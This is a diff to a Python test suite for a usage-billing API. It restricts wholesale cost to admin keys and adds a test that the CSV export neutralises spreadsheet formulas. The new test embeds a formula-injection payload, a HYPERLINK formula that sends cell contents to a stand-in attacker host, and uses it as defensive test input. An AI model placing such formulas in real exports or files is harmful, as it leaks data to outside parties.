@@ -234,7 +234,12 @@ def test_summary_per_client_type_and_day(api: TestClient, keys: Keys) -> None:
     ]
     post(api, keys.acme, batch)
     params = {"from": yesterday.date().isoformat(), "to": today.date().isoformat()}
-    body = api.get("/v1/usage/summary", params=params, headers=Keys.header(keys.acme)).json()
+    body = api.get("/v1/usage/summary", params=params, headers=Keys.header(keys.acme_admin)).json()
+    hidden = api.get("/v1/usage/summary", params=params, headers=Keys.header(keys.acme)).json()
+    assert [line.pop("wholesale_cost") for line in hidden["lines"]] == [None, None]
+    assert hidden["lines"] == [
+        {k: v for k, v in line.items() if k != "wholesale_cost"} for line in body["lines"]
+    ]
     assert body["lines"] == [
         {"client": "alpha", "usage_type": "sms", "day": today.date().isoformat(), "quantity": "5",
          "events": 2, "wholesale_cost": 4, "currency": "USD"},
@@ -258,3 +263,18 @@ def test_bad_queries(
     api: TestClient, keys: Keys, path: str, params: dict[str, Any], status: int
 ) -> None:
     assert api.get(path, params=params, headers=Keys.header(keys.acme)).status_code == status
+
+
+def test_the_export_escapes_formulas_and_keeps_negative_numbers(
+    api: TestClient, keys: Keys
+) -> None:
+    """A platform-sent event id such as `=HYPERLINK(...)` must not run when finance opens the
+    export; a negative adjustment's quantity stays a number."""
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    batch = [event(attack, quantity="5"), event("@SUM(1+1)"),
+             event("fix", quantity="-2", adjusts=attack)]  # fmt: skip
+    assert post(api, keys.acme, batch).json()["accepted"] == 3
+    export = api.get("/v1/usage/export.csv", headers=Keys.header(keys.acme))
+    rows = {r["event_id"]: r for r in csv.DictReader(io.StringIO(export.text))}
+    assert set(rows) == {"'" + attack, "'@SUM(1+1)", "fix"}
+    assert rows["fix"]["quantity"] == "-2"
